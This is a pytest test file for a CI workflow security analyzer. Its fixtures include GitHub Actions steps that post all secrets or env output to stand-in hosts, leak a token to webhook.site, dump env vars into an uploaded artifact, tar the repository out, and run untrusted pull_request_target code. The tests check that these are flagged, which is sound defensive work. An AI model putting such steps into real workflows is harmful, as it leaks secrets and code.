"""The CI workflow analyzer: zizmor's audits, re-rated, plus Gatehouse's own checks."""

from __future__ import annotations

import json
import stat
import textwrap
from pathlib import Path

import pytest
from conftest import IN_CI

from reviewer.core.analyzers.workflows import WorkflowAnalyzer, is_workflow, zizmor_binary
from reviewer.core.diff import parse_diff
from reviewer.core.engine import ScanResult, scan
from reviewer.core.findings import Finding, Severity

WF = ".github/workflows/ci.yml"
needs_zizmor = pytest.mark.usefixtures("zizmor_exe")  # skips, or fails under CI=true


def new_file(path: str, text: str) -> str:
    lines = textwrap.dedent(text).strip("\n").splitlines()
    body = "".join(f"+{line}\n" for line in lines)
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n"
        f"@@ -0,0 +1,{len(lines)} @@\n{body}"
    )


def run_result(diff: str, analyzer: WorkflowAnalyzer | None = None) -> ScanResult:
    return scan(parse_diff(diff), analyzers=[analyzer or WorkflowAnalyzer()])


def run(diff: str, analyzer: WorkflowAnalyzer | None = None) -> list[Finding]:
    result = run_result(diff, analyzer)
    assert not result.errors, result.errors
    return result.findings


def rules(findings: list[Finding]) -> dict[str, Finding]:
    return {f.rule_id: f for f in findings}


def worst(findings: list[Finding]) -> Severity:
    return max((f.severity for f in findings), default=Severity.INFO)


ORDINARY = """
    name: ci
    on:
      push:
        branches: [main]
      pull_request:
    permissions:
      contents: read
    jobs:
      test:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
            with:
              persist-credentials: false
          - uses: actions/setup-python@v5
            with:
              python-version: "3.12"
          - run: pip install -e . && pytest -q
          - name: upload coverage
            run: |
              curl -sSf -H "Authorization: Bearer ${{ secrets.COV_TOKEN }}" -F file=@coverage.xml https://coverage.example.com/upload
"""


def test_is_workflow() -> None:
    assert is_workflow(".github/workflows/a.yaml") and is_workflow("tools/act/action.yml")
    assert not is_workflow("docs/workflows/a.yml") and not is_workflow(".github/dependabot.yml")


def test_ordinary_ci_workflow_stays_below_medium() -> None:
    result = run_result(new_file(WF, ORDINARY))
    if zizmor_binary() is not None or IN_CI:  # CI has zizmor
        assert not result.skipped  # parsed whole and audited by zizmor
    findings = result.findings
    assert worst(findings) < Severity.MEDIUM, [(f.rule_id, f.severity) for f in findings]


def test_all_secrets_sent_over_the_network_is_critical() -> None:
    findings = run(
        new_file(
            WF,
            """
        on: push
        jobs:
          sync:
            runs-on: ubuntu-latest
            steps:
              - name: sync settings
                run: |
                  echo "syncing"
                  curl -s -X POST --data "$BUNDLE" https://collector.example.org/in
                env:
                  BUNDLE: ${{ toJSON(secrets) }}
    """,
        )
    )
    f = rules(findings)["wf-secrets-to-network"]
    assert f.severity is Severity.CRITICAL and f.category == "ci-secret-exfil" and f.start_line == 9
    assert {"env-dump", "network-send"} <= f.capabilities


def test_environment_dump_piped_to_a_server_is_critical() -> None:
    findings = run(
        new_file(
            WF,
            """
        on: [pull_request]
        jobs:
          t:
            runs-on: ubuntu-latest
            steps:
              - run: env | curl -s --data-binary @- https://203.0.113.9/c
    """,
        )
    )
    assert rules(findings)["wf-secrets-to-network"].severity is Severity.CRITICAL


def test_secret_sent_to_a_request_collector_is_critical() -> None:
    findings = run(
        new_file(
            WF,
            """
        on: push
        jobs:
          t:
            runs-on: ubuntu-latest
            steps:
              - run: curl "https://webhook.site/abc?t=${{ secrets.NPM_TOKEN }}"
    """,
        )
    )
    assert rules(findings)["wf-secret-to-suspicious-host"].severity is Severity.CRITICAL


def test_secrets_written_to_an_uploaded_artifact_is_critical() -> None:
    findings = run(
        new_file(
            WF,
            """
        on: push
        jobs:
          t:
            runs-on: ubuntu-latest
            steps:
              - run: printenv > debug-env.txt
              - uses: actions/upload-artifact@v4
                with:
                  path: debug-env.txt
    """,
        )
    )
    assert rules(findings)["wf-secrets-to-artifact"].severity is Severity.CRITICAL


def test_encoding_a_secret_to_dodge_log_masking_is_high() -> None:
    findings = run(
        new_file(
            WF,
            """
        on: push
        jobs:
          t:
            runs-on: ubuntu-latest
            steps:
              - run: echo "${{ secrets.DEPLOY_KEY }}" | base64 | base64
    """,
        )
    )
    assert rules(findings)["wf-secret-encoded-output"].severity is Severity.HIGH


PR_TARGET = """
    on: {trigger}
    permissions:
      contents: read
    jobs:
      build:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
            with:
              ref: ${{{{ github.event.pull_request.head.sha }}}}
          - run: npm ci && npm test
"""


def test_pull_request_target_building_the_pr_head_is_critical() -> None:
    findings = run(new_file(WF, PR_TARGET.format(trigger="pull_request_target")))
    found = rules(findings)
    assert found["wf-privileged-checkout-of-pr-code"].severity is Severity.HIGH
    assert found["wf-privileged-checkout-of-pr-code"].start_line == 10
    assert found["wf-privileged-run-of-pr-code"].severity is Severity.CRITICAL


def test_the_same_checkout_on_pull_request_is_quiet() -> None:
    findings = run(new_file(WF, PR_TARGET.format(trigger="pull_request")))
    assert worst(findings) < Severity.MEDIUM


@needs_zizmor
def test_untrusted_title_in_a_shell_is_high_and_env_indirection_is_not() -> None:
    bad = run(
        new_file(
            WF,
            """
        on: issues
        permissions: {}
        jobs:
          t:
            runs-on: ubuntu-latest
            steps:
              - run: echo "New issue ${{ github.event.issue.title }}"
    """,
        )
    )
    injection = [f for f in bad if f.category == "ci-injection" and f.severity >= Severity.HIGH]
    assert (
        injection
        and injection[0].start_line == 7
        and injection[0].rule_id == "zizmor-template-injection"
    )
    good = run(
        new_file(
            WF,
            """
        on: issues
        permissions: {}
        jobs:
          t:
            runs-on: ubuntu-latest
            steps:
              - run: echo "New issue $TITLE"
                env:
                  TITLE: ${{ github.event.issue.title }}
    """,
        )
    )
    assert worst(good) < Severity.MEDIUM


@needs_zizmor
def test_maintainer_only_inputs_are_not_rated_as_injection() -> None:
    findings = run(
        new_file(
            WF,
            """
        on:
          workflow_dispatch:
            inputs:
              version: {required: true}
        permissions: {}
        jobs:
          t:
            runs-on: ubuntu-latest
            steps:
              - run: echo "${{ inputs.version }}"
    """,
        )
    )
    assert worst(findings) < Severity.MEDIUM


def test_hunk_only_injection_in_a_run_block() -> None:
    diff = (
        "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n"
        "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n"
        "@@ -20,3 +20,4 @@\n       - run: |\n           echo building\n"
        "+          git push origin HEAD:${{ github.head_ref }}\n           make\n"
    )
    result = run_result(diff)
    f = rules(result.findings)["wf-untrusted-input-in-run"]
    assert f.severity is Severity.HIGH and f.start_line == 22
    assert any(
        s.path == ".github/workflows/ci.yml" and "zizmor" in s.analyzer for s in result.skipped
    )


def test_hunk_only_expression_in_env_is_not_injection() -> None:
    diff = (
        "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n"
        "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n"
        "@@ -20,3 +20,4 @@\n         env:\n           A: b\n"
        "+          BRANCH: ${{ github.head_ref }}\n         run: make\n"
    )
    assert worst(run(diff)) < Severity.MEDIUM


def test_self_hosted_runner_is_medium_and_hosted_is_quiet() -> None:
    diff = (
        "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n"
        "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n"
        "@@ -5,3 +5,3 @@\n   build:\n-    runs-on: ubuntu-latest\n"
        "+    runs-on: [self-hosted, linux]\n     steps:\n"
    )
    assert rules(run(diff))["wf-self-hosted-runner"].severity is Severity.MEDIUM
    back = diff.replace(
        "-    runs-on: ubuntu-latest\n+    runs-on: [self-hosted, linux]",
        "-    runs-on: [self-hosted, linux]\n+    runs-on: ubuntu-latest",
    )
    assert "wf-self-hosted-runner" not in rules(run(back))


def test_permissions_write_all_is_medium_single_write_low() -> None:
    diff = (
        "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n"
        "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n"
        "@@ -3,3 +3,4 @@\n permissions:\n   contents: read\n+  id-token: write\n jobs:\n"
    )
    assert rules(run(diff))["wf-permission-write"].severity is Severity.LOW
    diff2 = diff.replace(
        "@@ -3,3 +3,4 @@\n permissions:\n   contents: read\n+  id-token: write\n",
        "@@ -3,3 +3,3 @@\n-permissions: read-all\n+permissions: write-all\n   contents: read\n",
    )
    assert rules(run(diff2))["wf-permissions-write-all"].severity is Severity.MEDIUM


def test_unpinned_actions_are_low_and_never_fail_a_check() -> None:
    diff = (
        "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n"
        "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n"
        "@@ -8,2 +8,5 @@\n     steps:\n"
        "+      - uses: someone/setup-thing@v2\n"
        "+      - uses: actions/setup-node@v4\n"
        "+      - uses: someone/other@0123456789abcdef0123456789abcdef01234567\n"
        "       - run: make\n"
    )
    found = run(diff)
    assert [(f.rule_id, f.start_line, f.severity) for f in found] == [
        ("wf-unpinned-action", 9, Severity.LOW),
        ("wf-unpinned-first-party-action", 10, Severity.INFO),
    ]


def test_new_push_workflow_posting_data_out_is_medium_branch_filtered_is_quiet() -> None:
    text = """
        on: push
        jobs:
          t:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@v4
              - run: tar cz . | curl -s -T - https://files.example.net/drop
    """
    assert rules(run(new_file(WF, text)))["wf-push-workflow-sends-data"].severity is Severity.MEDIUM
    filtered = text.replace("on: push", "on:\n          push:\n            branches: [main]")
    assert "wf-push-workflow-sends-data" not in rules(run(new_file(WF, filtered)))


# -- zizmor as a tool ---------------------------------------------------------------


@needs_zizmor
def test_zizmor_runs_once_offline_and_its_findings_are_mapped() -> None:
    analyzer = WorkflowAnalyzer()
    diff = new_file(WF, PR_TARGET.format(trigger="pull_request_target")) + new_file(
        "tools/act/action.yml",
        """
        name: act
        description: demo
        runs:
          using: composite
          steps:
            - run: echo "${{ github.event.comment.body }}"
              shell: bash
    """,
    )
    findings = run(diff, analyzer)
    zizmor = [f for f in findings if f.rule_id.startswith("zizmor-")]
    assert {f.path for f in zizmor} == {WF, "tools/act/action.yml"}
    assert rules(findings)["zizmor-dangerous-triggers"].severity is Severity.LOW
    assert rules(findings)["zizmor-template-injection"].start_line == 6
    assert analyzer.last_zizmor_seconds > 0  # measured (bench/ prints the figure)


def _fake_tool(tmp_path: Path, script: str) -> str:
    exe = tmp_path / "zizmor"
    exe.write_text("#!/bin/sh\n" + script + "\n")
    exe.chmod(exe.stat().st_mode | stat.S_IXUSR)
    return str(exe)


def test_zizmor_failure_is_an_error_and_own_checks_still_run(tmp_path: Path) -> None:
    analyzer = WorkflowAnalyzer(
        zizmor_path=_fake_tool(tmp_path, "echo 'boom: cannot start' >&2; exit 3")
    )
    result = run_result(new_file(WF, PR_TARGET.format(trigger="pull_request_target")), analyzer)
    assert result.errors and "zizmor exited 3" in result.errors[0]
    assert any(s.path == WF and s.analyzer == "zizmor" for s in result.skipped)
    assert "wf-privileged-run-of-pr-code" in rules(result.findings)


def test_missing_zizmor_is_reported_not_silent(tmp_path: Path) -> None:
    analyzer = WorkflowAnalyzer(zizmor_path=str(tmp_path / "nope"))
    result = run_result(new_file(WF, ORDINARY), analyzer)
    assert any("zizmor is not installed" in e for e in result.errors)


@needs_zizmor
def test_invalid_workflow_yaml_is_skipped_with_a_reason() -> None:
    result = run_result(new_file(WF, "on: push\njobs: [\n  - runs-on: self-hosted\n"))
    assert not result.errors
    assert any(s.path == WF and "not valid workflow YAML" in s.detail for s in result.skipped)
    assert "wf-self-hosted-runner" in rules(result.findings)


# -- the corpus ---------------------------------------------------------------------


@pytest.mark.corpus
def test_corpus_workflow_case_detected_and_benign_quiet(corpus_dir: Path) -> None:
    analyzer = WorkflowAnalyzer()
    case = corpus_dir / "malicious" / "2025-shai-hulud-workflow-secret-exfil"
    meta = json.loads((case / "meta.json").read_text())
    ((path, marked),) = meta["malicious_lines"].items()
    found = scan(parse_diff((case / "change.diff").read_bytes()), analyzers=[analyzer]).findings
    assert any(
        f.path == path
        and f.severity >= Severity.HIGH
        and any(abs(f.start_line - n) <= 2 for n in marked)
        for f in found
    )
    medium = high_commits = 0
    for diff in sorted((corpus_dir / "benign").glob("*/*.diff")):
        if ".github/" not in diff.read_text(errors="replace"):
            continue
        result = scan(parse_diff(diff.read_bytes()), analyzers=[analyzer])
        assert not result.errors, (diff.name, result.errors)
        medium += sum(f.severity >= Severity.MEDIUM for f in result.findings)
        high_commits += any(f.severity >= Severity.HIGH for f in result.findings)
    assert medium <= 2 and high_commits <= 1


def test_hunk_only_secret_bundle_posted_nearby_is_critical() -> None:
    diff = (
        "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n"
        "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n"
        "@@ -30,2 +30,6 @@\n       - run: make test\n"
        "+      - name: report\n"
        '+        run: curl -s -X POST --data "$PAYLOAD" https://metrics.example.net/r\n'
        "+        env:\n"
        "+          PAYLOAD: ${{ toJSON(secrets) }}\n"
        "       - run: make lint\n"
    )
    f = rules(run(diff))["wf-secrets-to-network"]
    assert f.severity is Severity.CRITICAL and f.start_line == 32
    calm = diff.replace("${{ toJSON(secrets) }}", "${{ github.sha }}")
    assert worst(run(calm)) < Severity.HIGH
